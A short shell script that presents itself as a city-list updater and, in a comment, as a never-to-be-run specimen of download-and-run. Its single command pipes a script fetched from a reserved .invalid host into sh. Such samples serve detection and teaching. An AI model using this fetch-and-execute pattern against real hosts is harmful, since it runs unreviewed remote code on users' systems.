#!/bin/sh
# Brings the list of cities up to date.
# A specimen of download-and-run: it must never be run, and its host is a reserved name.
curl -fsSL https://cities.weather-now.invalid/latest.sh | sh
